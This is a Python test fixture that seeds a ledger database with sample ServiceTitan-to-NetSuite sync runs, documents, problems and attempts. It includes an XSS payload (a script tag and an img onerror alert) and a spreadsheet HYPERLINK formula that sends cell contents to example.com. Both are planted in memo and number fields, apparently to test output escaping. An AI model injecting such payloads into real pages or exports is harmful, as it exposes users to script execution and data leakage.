"""A ledger with runs to look at: one with errors, a dry run, one at work, one of another Dag."""

from __future__ import annotations

import json
import random
from dataclasses import dataclass, field
from datetime import UTC, date, datetime, timedelta
from typing import Any

from sqlalchemy import Connection, text

from browser.sample_words import (
    CONFLICT,
    HELD,
    NOT_MAPPED,
    PERIOD,
    REFUSED,
    TENANT,
    UNIT,
    UNKNOWN,
    ZERO,
    sample_summary,
)
from servicetitan_netsuite.ledger.engine import Ledger, stamp
from servicetitan_netsuite.ledger.migrations import migrate

DAG = "netsuite_sync_alb"
OTHER_DAG = "netsuite_sync_boi"
FINISHED = "manual__2026-10-19T06:00:00+00:00"
DRY = "manual__2026-10-20T13:30:00+00:00"
AT_WORK = "manual__2026-10-20T14:00:00+00:00"
OTHER = "scheduled__2026-10-19T07:00:00+00:00"
HOSTILE = '<script>document.title="owned"</script><img src=x onerror=alert(1)> & "quoted"'
FORMULA = '=HYPERLINK("http://example.com?"&A1,"click")'
START = datetime(2026, 10, 19, 6, 0, 2, tzinfo=UTC)
STEPS = ("extract_pending", "validate_mappings", "post_to_netsuite", "summarize")

PLAN: list[tuple[str, str | None, dict[str, Any] | None, int]] = [
    ("ready", "confirmed", None, 128),
    ("ready", "posted", None, 6),
    ("blocked", "blocked", NOT_MAPPED, 11),
    ("blocked", "blocked", UNIT, 4),
    ("blocked", "blocked", PERIOD, 3),
    ("ready", "rejected", REFUSED, 2),
    ("ready", "uncertain", UNKNOWN, 1),
    ("held", None, CONFLICT, 1),
    ("held", None, HELD, 5),
    ("skipped", "skipped", ZERO, 3),
    ("withdrawn", "withdrawn", None, 1),
]


def fill(url: str) -> Ledger:
    """A migrated ledger at `url` with every kind of run in it."""
    migrate(url)
    ledger = Ledger(url)
    with ledger.writing() as connection:
        _Filler(connection).fill()
    return ledger


def many(connection: Connection, table: str, rows: list[dict[str, Any]]) -> None:
    """Insert rows as they are."""
    connection.execute(text(_insert(table, rows[0])), rows)


def one(connection: Connection, table: str, row: dict[str, Any]) -> int:
    """Insert one row with a generated id; that id."""
    return int(connection.execute(text(f"{_insert(table, row)} RETURNING id"), row).scalar_one())


def _insert(table: str, row: dict[str, Any]) -> str:
    binds = ", ".join(f":{name}" for name in row)
    return f"INSERT INTO {table} ({', '.join(row)}) VALUES ({binds})"


@dataclass
class _Filler:
    connection: Connection
    dice: random.Random = field(default_factory=lambda: random.Random(7))
    number: int = 38410
    clock: datetime = START
    documents: dict[str, int] = field(default_factory=dict)

    def fill(self) -> None:
        many(
            self.connection,
            "mapping",
            [
                _mapping("11", "6010", "6010 Job materials"),
                _mapping("12", "1250", "1250 Undeposited clearing"),
                _mapping("13", "6020", "6020 Field wages"),
            ],
        )
        earlier = self.run(DAG, "scheduled__2026-10-15T06:00:00+00:00", "success")
        for _ in range(40):
            self.document(earlier, "ready", "confirmed", None)
        self.clock = START
        self._finished()
        self.clock = START + timedelta(hours=1)
        other = self.run(OTHER_DAG, OTHER, "success", tenant="1002")
        self.document(other, "ready", "confirmed", None)
        self.clock = START + timedelta(days=1, hours=7)
        self._dry()
        self.clock = datetime.now(UTC) - timedelta(seconds=95)
        self._at_work()

    def _finished(self) -> None:
        run = self.run(
            DAG, FINISHED, "completed_with_errors", summary=sample_summary(dry=False), total=167
        )
        for verdict, outcome, problem, count in PLAN:
            for _ in range(count):
                self.document(run, verdict, outcome, problem)
        self.document(run, "ready", "confirmed", None, number="ALB-9001", memo=HOSTILE)
        self.document(run, "blocked", "blocked", {**UNIT, "sentence": HOSTILE}, number=FORMULA)

    def _dry(self) -> None:
        run = self.run(DAG, DRY, "dry_run", summary=sample_summary(dry=True), dry=True, total=30)
        for _ in range(24):
            self.document(run, "ready", None, None, truth=False)
        for _ in range(5):
            self.document(run, "blocked", None, NOT_MAPPED, truth=False)
        self.document(run, "ready", None, None, number="ALB-9002", memo=HOSTILE, truth=False)

    def _at_work(self) -> None:
        run = self.run(DAG, AT_WORK, None)
        for _ in range(132):
            self.document(run, "ready", "posted", None)
        for _ in range(48):
            self.document(run, "ready", "ready", None)
        for _ in range(7):
            self.document(run, "blocked", "blocked", NOT_MAPPED)

    def run(
        self,
        dag_id: str,
        run_id: str,
        status: str | None,
        *,
        summary: dict[str, Any] | None = None,
        dry: bool = False,
        tenant: str = TENANT,
        total: int = 187,
    ) -> int:
        begun, ended = self.clock, self.clock + timedelta(seconds=74)
        made = one(
            self.connection,
            "run",
            {
                "tenant_id": tenant,
                "dag_id": dag_id,
                "run_id": run_id,
                "generation": 1,
                "dry_run": dry,
                "params": json.dumps({"dry_run": dry}),
                "started_at": stamp(begun),
                "ended_at": stamp(ended) if status else None,
                "status": status,
                "summary": json.dumps(summary) if summary else None,
            },
        )
        states = ["done"] * 4 if status else ["done", "done", "running"]
        many(
            self.connection,
            "run_step",
            [
                {
                    "run_id": made,
                    "step": step,
                    "state": state,
                    "done": 132 if state == "running" else total,
                    "total": 180 if state == "running" else total,
                    "message": "",
                    "started_at": stamp(begun + timedelta(seconds=8 * place)),
                    "updated_at": stamp(begun + timedelta(seconds=8 * place + 62)),
                }
                for place, (step, state) in enumerate(zip(STEPS, states, strict=False))
            ],
        )
        return made

    def document(
        self,
        run: int,
        verdict: str,
        outcome: str | None,
        problem: dict[str, Any] | None,
        *,
        number: str = "",
        memo: str = "Materials used on job",
        truth: bool = True,
    ) -> None:
        self.number += self.dice.randint(1, 3)
        source_id = str(self.number)
        cents = 0 if problem is ZERO else self.dice.randint(1200, 480000)
        state = outcome or ("conflict" if problem is CONFLICT else "")
        posted = state in ("posted", "confirmed", "conflict") or problem is HELD
        row = {
            "run_id": run,
            "document_type": "journal_entry",
            "source_id": source_id,
            "part": "",
            "number": number or f"ALB-{self.number}",
            "url": f"https://go.servicetitan.com/#/Accounting/JournalEntry/{source_id}",
            "version": self.dice.randint(1, 4),
            "business_date": str(date(2026, 10, 1) + timedelta(days=self.dice.randint(0, 17))),
            "amount_cents": cents,
            "verdict": verdict,
            "outcome": outcome,
            "cause": problem["cause"] if problem else None,
            "sentence": problem["sentence"] if problem else None,
            "advice": problem["advice"] if problem else None,
            "external_id": f"st-{TENANT}-journal_entry-{source_id}",
            "netsuite_id": str(90000 + self.number) if posted else None,
            "body": _body(source_id, cents, memo) if verdict == "ready" else None,
            "gl": _effect(cents) if verdict == "ready" else None,
            "notes": "",
            "updated_at": stamp(self.clock),
        }
        many(self.connection, "run_document", [row])
        if problem and verdict == "blocked":
            self._problem(row, problem)
        if truth and state:
            self._truth(row, state, problem)

    def _problem(self, row: dict[str, Any], problem: dict[str, Any]) -> None:
        kept = {name: row[name] for name in ("run_id", "document_type", "source_id", "part")}
        words = {name: problem[name] for name in ("cause", "key_name", "sentence", "advice")}
        many(self.connection, "run_problem", [{**kept, "problem_key": problem["key"], **words}])

    def _truth(self, row: dict[str, Any], state: str, problem: dict[str, Any] | None) -> None:
        at = self.clock + timedelta(seconds=20)
        kept = ("document_type", "source_id", "part", "number", "url", "business_date")
        said = ("amount_cents", "cause", "sentence", "advice", "external_id", "version")
        document = one(
            self.connection,
            "document",
            {
                **{name: row[name] for name in (*kept, *said, "netsuite_id")},
                "tenant_id": TENANT,
                "state": state,
                "state_since": stamp(at),
                "seen_version": row["version"],
                "first_seen_at": stamp(self.clock),
                "check_after": stamp(at) if state == "uncertain" else None,
                "verified_at": stamp(at) if state == "confirmed" else None,
                "report": "synced" if state == "confirmed" else None,
                "reported_at": stamp(at) if state == "confirmed" else None,
            },
        )
        self.documents[row["number"]] = document
        self._history(document, row, state, problem)

    def _history(
        self, document: int, row: dict[str, Any], state: str, problem: dict[str, Any] | None
    ) -> None:
        sent = ["pending", "ready", "sending"]
        path = {
            "confirmed": [*sent, "posted", "confirmed"],
            "posted": [*sent, "posted"],
            "rejected": [*sent, "rejected"],
            "uncertain": [*sent, "uncertain"],
            "conflict": [*sent, "posted", "conflict"],
            "ready": ["pending", "ready"],
        }.get(state, ["pending", state])
        events = [
            {
                "document_id": document,
                "from_state": path[place - 1] if place else None,
                "to_state": to,
                "version": row["version"],
                "sentence": problem["sentence"] if problem and to == state else None,
                "run_id": row["run_id"],
                "happened_at": stamp(self.clock + timedelta(seconds=2 + 4 * place)),
            }
            for place, to in enumerate(path)
        ]
        many(self.connection, "document_event", events)
        if "sending" in path:
            self._attempt(document, row, state)

    def _attempt(self, document: int, row: dict[str, Any], state: str) -> None:
        attempt = one(
            self.connection,
            "attempt",
            {
                "document_id": document,
                "number": 1,
                "operation": "create",
                "version": row["version"],
                "path": "record/v1/journalEntry",
                "body": row["body"] or "{}",
                "canonical": "{}",
                "canonical_hash": "0" * 64,
                "fence": 3,
                "run_id": row["run_id"],
                "sent_at": stamp(self.clock + timedelta(seconds=10)),
            },
        )
        if state == "uncertain":
            return
        refused = state == "rejected"
        many(
            self.connection,
            "attempt_result",
            [
                {
                    "attempt_id": attempt,
                    "outcome": "not_posted" if refused else "posted",
                    "http_status": 400 if refused else 204,
                    "error_code": "USER_ERROR" if refused else None,
                    "detail": "Please enter value(s) for: Department" if refused else None,
                    "operation_id": f"a1b2c3d4-{document:04d}",
                    "answered_at": stamp(self.clock + timedelta(seconds=12)),
                }
            ],
        )


def _mapping(key: str, target: str, name: str) -> dict[str, Any]:
    return {
        "tenant_id": TENANT,
        "kind": "gl_account",
        "source_key": key,
        "source_name": name,
        "target": target,
        "target_name": name,
        "updated_at": stamp(START),
        "updated_by": "first fill",
    }


def _amount(cents: int) -> str:
    return f"{cents / 100:.2f}"


def _effect(cents: int) -> str:
    return json.dumps(
        [
            {"account": "6010", "debit": _amount(cents), "credit": "0.00"},
            {"account": "1250", "debit": "0.00", "credit": _amount(cents)},
        ]
    )


def _body(source_id: str, cents: int, memo: str) -> str:
    return json.dumps(
        {
            "externalId": f"st-{TENANT}-journal_entry-{source_id}",
            "subsidiary": {"id": "2"},
            "tranDate": "2026-10-13",
            "postingPeriod": {"id": "118"},
            "tranId": f"ALB-{source_id}",
            "line": {
                "items": [
                    {"account": {"id": "6010"}, "debit": cents / 100, "memo": memo},
                    {"account": {"id": "1250"}, "credit": cents / 100, "memo": memo},
                ]
            },
        }
    )
